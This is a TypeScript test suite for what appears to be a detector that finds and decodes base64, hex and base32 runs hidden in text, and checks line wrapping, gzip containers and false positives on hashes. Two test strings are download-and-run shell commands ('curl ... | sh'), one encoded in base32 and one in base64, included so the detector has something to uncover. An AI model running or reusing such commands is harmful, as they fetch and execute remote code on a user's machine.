import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { BASE64, filler } from '../../../lib/detector/rules/filler.ts';
import { decodeRun, encodingsOf, RUN_ENCODINGS } from '../../../lib/detector/views/run_encodings.ts';

const runEncodings = suite('run encodings');
const seed = 20260426;

function readings(run: string): string[] {
  const bytes = Buffer.from(run);
  const found = encodingsOf(bytes, 0, bytes.length);
  return RUN_ENCODINGS.filter((_, bit) => ((found >> bit) & 1) === 1).map((encoding) =>
    decodeRun(encoding, bytes, 0, bytes.length).toString('latin1'),
  );
}

const ascii = fc.string({ unit: 'grapheme-ascii', minLength: 23, maxLength: 80 });

runEncodings('text of 23 bytes is read in base64 behind anything, and in hex and base32', () => {
  fc.assert(
    fc.property(ascii, fc.string({ unit: fc.constantFrom(...'aZ9/_'), maxLength: 9 }), (text, lead) => {
      const encoded = Buffer.from(text);
      assert.ok(readings(lead + encoded.toString('base64url')).some((reading) => reading.endsWith(text)));
      if (text.length >= 31) {
        assert.ok(
          readings(`${lead.length % 2 === 0 ? '' : 'f'}${encoded.toString('hex')}`).some((reading) =>
            reading.endsWith(text),
          ),
        );
      }
    }),
    { seed, numRuns: 1000 },
  );
  assert.ok(
    readings('MN2XE3BANB2HI4B2F4XXQLTFPBQW24DMMUXXQID4EBZWQ').includes('curl http://x.example/x | sh'),
  );
});

runEncodings('are the same in a long run whether lines break in it or not', () => {
  const noise = filler(4000, BASE64, 11);
  const piece = fc.oneof(
    fc.nat(60).map((length) => noise.slice(7 * length, 8 * length)),
    ascii.map((text) => Buffer.from(text).toString('base64url')),
    ascii.map((text) => Buffer.from(text).toString('hex')),
    fc.constantFrom('MN2XE3BANB2HI4B2F4XXQLTFPBQW24DMMUXXQID4EBZWQ', 'MFXGIIDTN4'),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), fc.nat(), (pieces, at) => {
      const run = noise.slice(0, 1500) + pieces.join('') + noise.slice(1500, 3000);
      const cut = at % run.length;
      const broken = Buffer.from(`${run.slice(0, cut)}\n${run.slice(cut)}`);
      assert.is(
        encodingsOf(Buffer.from(run), 0, run.length),
        encodingsOf(broken, 0, broken.length),
        `${cut}: ${run}`,
      );
    }),
    { seed, numRuns: 800 },
  );
});

runEncodings('twelve bytes are enough where a run begins', () => {
  assert.ok(readings(Buffer.from('curl x.io|sh').toString('base64')).includes('curl x.io|sh'));
});

runEncodings('line breaks do not matter', () => {
  const text = 'a secret in a mail that was wrapped as mails are';
  const wrapped = Buffer.from(text)
    .toString('base64')
    .replace(/.{1,11}/g, '$&\r\n');
  assert.ok(readings(wrapped).includes(text));
});

runEncodings('containers are known by how they begin', () => {
  const coded = gzipSync(Buffer.from('text '.repeat(30)));
  assert.ok(readings(coded.toString('base64')).includes(coded.toString('latin1')));
  assert.ok(readings(coded.toString('hex')).includes(coded.toString('latin1')));
});

runEncodings('identifiers, paths and hashes are none', () => {
  for (const run of [
    'getElementsByTagName',
    '/usr/share/doc/node/examples',
    'application-openmetrics-text',
    'X-Content-Type-Options',
    '------------------------',
  ]) {
    assert.equal(readings(run), [], run);
  }
  const hashes = Array.from({ length: 1000 }, (_, n) => createHash('sha256').update(`${n}`).digest());
  const found = hashes.filter(
    (hash) => readings(hash.toString('hex')).length + readings(hash.toString('base64')).length > 0,
  );
  assert.ok(found.length < 20, `${found.length} of 1000`);
});

runEncodings.run();
